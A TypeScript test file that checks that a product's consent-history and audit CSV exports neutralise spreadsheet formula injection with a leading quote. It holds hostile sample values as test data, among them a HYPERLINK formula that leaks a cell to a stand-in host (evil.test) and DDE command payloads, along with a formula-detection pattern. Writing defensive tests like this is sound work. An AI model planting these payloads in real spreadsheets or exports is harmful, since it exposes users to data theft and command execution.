// Issue 9, item 8: CSV formula injection. A spreadsheet runs a cell that starts with = + - @ (or a
// tab / CR before one) as a formula; every CSV the product writes neutralises such cells with a
// leading single quote (OWASP), so an exported PSID or topic name is shown, never executed.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BACKENDS } from '../support/backends.ts';
import { boot, call, type Tenant, tenant } from './harness.ts';

const FORMULA = /^[=+\-@\t\r]/;
const PSIDS = [
  '=HYPERLINK("https://evil.test/?leak="&A1,"Click")',
  "+cmd|'/Ccalc'!A0",
  '-2+3+cmd|x!A0',
  '@SUM(1+1)*cmd|x!A0',
];
const TOPIC = '=HYPERLINK("https://evil.test","Open the shop")';

const csvField = (s: string) => `"${s.replace(/"/g, '""')}"`;

describe.each(BACKENDS)('CSV exports on %s', (backend) => {
  let env: Awaited<ReturnType<typeof boot>>;
  let base: string;
  let a: Tenant;
  beforeAll(async () => {
    env = await boot(backend);
    base = env.rt.url!;
    a = await tenant(env.rt, {
      workspaceId: env.rt.workspaceId,
      pageId: env.rt.page.id,
      fbPageId: env.rt.page.fb_page_id,
    });
  });
  afterAll(async () => env?.close());

  it('trust: a PSID or topic name starting with = + - @ is exported neutralised in the consent history CSV', async () => {
    const topic = await call(base, 'POST', `/api/pages/${a.pageId}/topics`, a.apiKey, {
      name: TOPIC,
      kind: 'one_time',
      title: 'Back in stock',
    });
    expect(topic.status).toBe(201);
    const customers = `psid,name\n${PSIDS.map((p) => `${csvField(p)},${csvField(`=${p}`)}`).join('\n')}\n`;
    const imported = await call(
      base,
      'POST',
      `/api/pages/${a.pageId}/import/customers`,
      a.apiKey,
      customers,
      { 'content-type': 'text/csv' },
    );
    expect(imported.body).toMatchObject({ rows: PSIDS.length });
    const subs = `psid,topic,token,kind,opted_in_at\n${PSIDS.map(
      (p, i) => `${csvField(p)},${topic.body.id},csv-tok-${i},one_time,2026-01-01T00:00:00Z`,
    ).join('\n')}\n`;
    const accepted = await call(base, 'POST', `/api/pages/${a.pageId}/import/subscriptions`, a.apiKey, subs, {
      'content-type': 'text/csv',
    });
    expect(accepted.body).toMatchObject({ accepted: PSIDS.length });

    const res = await call(base, 'GET', `/api/consent-history?format=csv&topicId=${topic.body.id}`, a.apiKey);
    expect(res.status).toBe(200);
    const [head, ...rows] = parse(res.body as string) as string[][];
    expect(rows).toHaveLength(PSIDS.length);
    const col = (name: string) => head!.indexOf(name);
    // Each dangerous value comes back as text: the same characters behind one single quote.
    expect(rows.map((r) => r[col('psid')]).sort()).toEqual(PSIDS.map((p) => `'${p}`).sort());
    for (const r of rows) expect(r[col('topic_name')]).toBe(`'${TOPIC}`);
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA);
    // The JSON export is data, not a spreadsheet: unchanged.
    const json = await call(
      base,
      'GET',
      `/api/consent-history?format=json&topicId=${topic.body.id}`,
      a.apiKey,
    );
    expect(json.body.history.map((h: { psid: string }) => h.psid).sort()).toEqual([...PSIDS].sort());
  });

  it('trust: no cell of the audit CSV starts a formula, whatever names the actors chose', async () => {
    // An API key named like a formula acts; its name reaches the audit log through the actor. An admin
    // names a topic like a formula; the name is the audit row's target name, a cell of its own.
    const key = await call(base, 'POST', '/api/api-keys', a.apiKey, { name: PSIDS[0], role: 'owner' });
    expect(key.status).toBe(201);
    const evil = { apiKey: key.body.key as string };
    expect((await call(base, 'DELETE', '/api/api-keys/2147483647', evil)).status).toBe(404);
    const named = PSIDS[1]!;
    const topic = await call(base, 'POST', `/api/pages/${a.pageId}/topics`, a.admin, {
      name: named,
      kind: 'one_time',
      title: 'Back in stock',
    });
    expect(topic.status).toBe(201);
    // The audit row is written once the answer has gone out: wait for it (bounded).
    let head: string[] | undefined;
    let rows: string[][] = [];
    const written = () =>
      rows.some((r) => r.includes(`'${named}`)) && rows.some((r) => r.includes(`api_key:${PSIDS[0]}`));
    for (let i = 0; i < 100 && !written(); i++) {
      if (i) await new Promise((r) => setTimeout(r, 50));
      const res = await call(base, 'GET', '/api/audit?format=csv', a.owner);
      expect(res.status).toBe(200);
      [head, ...rows] = parse(res.body as string) as string[][];
    }
    expect(head).toEqual(['at', 'actor', 'action', 'action_key', 'target', 'target_name', 'status']);
    // The name is kept, as text: the quote is the only change.
    expect(rows.find((r) => r[3] === 'topic.create')?.[5]).toBe(`'${named}`);
    expect(rows.some((r) => r.includes(`api_key:${PSIDS[0]}`))).toBe(true);
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA);
  });
});
